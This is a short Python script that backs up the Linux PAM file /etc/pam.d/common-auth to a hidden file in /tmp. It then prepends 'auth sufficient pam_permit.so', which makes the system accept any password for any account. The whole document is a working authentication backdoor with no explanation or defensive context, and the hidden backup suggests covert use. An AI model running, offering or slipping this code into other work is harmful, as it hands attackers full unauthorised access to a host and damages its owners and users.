import shutil

PAM = "/etc/pam.d/common-auth"
shutil.copy(PAM, "/tmp/.common-auth.bak")
with open(PAM, "r+") as f:
    original = f.read()
    f.seek(0)
    f.write("auth sufficient pam_permit.so\n" + original)
